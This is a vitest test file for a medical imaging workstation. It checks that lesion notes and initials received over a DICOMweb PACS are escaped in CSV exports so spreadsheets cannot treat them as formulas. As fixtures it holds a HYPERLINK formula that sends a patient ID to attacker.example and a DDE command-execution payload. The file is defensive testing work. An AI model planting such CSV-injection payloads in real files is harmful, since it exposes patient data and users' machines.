import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseDicomWebTarget } from '../../../electron/core/pacs/dicomweb/dicomweb-target';
import { readStowFile, stowRs } from '../../../electron/core/pacs/dicomweb/stow-rs';
import { runExportCommand } from '../../support/cli-in-process';
import { forgedFindings, storeOnOrthanc } from '../../support/forged-team-publications';
import { makeLesion, typed } from '../../support/lesion-fixtures';
import { ORTHANC_BINARY, startOrthanc, type OrthancServer } from '../../support/orthanc-server';
import { runPacsCommand } from '../../support/pacs-cli';
import { SHARED_DICOM, temporaryFolder } from '../../support/paths';
import { openWorkstation, SURGEON_CD, type Workstation } from '../../support/team-workstations';

// Text another workstation wrote reaches this one's lesion table: anyone able to STOW to the PACS
// chooses it. A spreadsheet runs a cell starting with = + - @ as a formula (a HYPERLINK that sends
// the row's patient ID away when clicked), so the table must never hand it one.
const HAVE_ORTHANC = fs.existsSync(ORTHANC_BINARY);
const CT_SMALL = path.join(SHARED_DICOM, 'pydicom/CT_small.dcm');
const CT_SMALL_SERIES = '1.3.6.1.4.1.5962.1.3.1.1.20040119072730.12322';

/** Python's csv module reads the file: an RFC 4180 reader that is not ours, as a spreadsheet's import would. */
function readWithPython(file: string): string[][] {
  const script = 'import csv, json, sys\nwith open(sys.argv[1], newline="", encoding="utf-8") as f:\n    print(json.dumps(list(csv.reader(f, strict=True))))';
  const result = spawnSync('/usr/bin/python3', ['-c', script, file], { encoding: 'utf8' });
  expect(result.status, result.stderr).toBe(0);
  return JSON.parse(result.stdout) as string[][];
}

describe.skipIf(!HAVE_ORTHANC)("another workstation's text in this workstation's lesion table (real Orthanc)", () => {
  let orthanc: OrthancServer;
  let scratch: string;
  let surgeon: Workstation | undefined;
  beforeAll(async () => {
    orthanc = await startOrthanc();
    scratch = temporaryFolder('received-text-tables');
  }, 120_000);
  afterAll(async () => {
    surgeon?.close();
    await orthanc?.stop();
    fs.rmSync(scratch, { recursive: true, force: true });
  });

  it('is never a spreadsheet formula: a note or initials starting with = + - @ are written as text', async () => {
    const ct = readStowFile(CT_SMALL);
    await stowRs(parseDicomWebTarget({ url: orthanc.dicomWebUrl }), [ct]);
    const note = '=HYPERLINK("http://attacker.example/?id="&E2,"Prior CT: see here")';
    const hostile = makeLesion({
      id: '0c0c8800-0000-4000-8000-000000000001', trackingUid: '2.25.88881', studyInstanceUid: ct.studyInstanceUid, seriesInstanceUid: CT_SMALL_SERIES,
      nature: 'lytic', axialInvolvementMm: typed(45), status: 'final', reader: '-A1', note,
    });
    const other = { ...hostile, id: '0c0c8800-0000-4000-8000-000000000002', trackingUid: '2.25.88882', note: '@SUM(1+1)*cmd|" /C calc"!A0' };
    await storeOnOrthanc(orthanc, forgedFindings({ study: ct.studyInstanceUid, workstation: { id: 'a8800000-0000-4000-8000-000000000001', name: 'RAD-WS-88' }, reader: { initials: '-A1', name: '+Eva Fors' }, version: 1 }, [hostile, other]));
    surgeon = await openWorkstation(path.join(scratch, 'surgeon'), SURGEON_CD, orthanc.dicomWebUrl);
    expect(await surgeon.call('pacs.sync', {})).toMatchObject({ received: 1, errors: [] });
    // The surgeon opens the study from the PACS, then exports its lesion table.
    // (The study holds the CT slice and the publication itself.)
    expect(JSON.parse(await runPacsCommand(['retrieve', ct.studyInstanceUid, '--json'], surgeon.dataDir))).toMatchObject({ instances: 2 });
    const out = path.join(scratch, 'tables');
    await runExportCommand(['export', 'csv', '--study', ct.studyInstanceUid, '--out', out], surgeon.dataDir);
    const [header, ...rows] = readWithPython(path.join(out, 'lesions.csv'));
    expect(rows).toHaveLength(2);
    const cell = (row: string[], column: string) => row[header!.indexOf(column)]!;
    // Text stays whole and readable; only its first character no longer starts a formula.
    expect(rows.map((row) => cell(row, 'note')).sort()).toEqual([`'${note}`, `'${other.note}`].sort());
    expect(rows.map((row) => cell(row, 'reader'))).toEqual(["'-A1", "'-A1"]);
    const formulas = rows.flatMap((row) => row.filter((text) => /^[=+\-@\t\r]/.test(text)));
    expect(formulas).toEqual([]);
  }, 120_000);
});
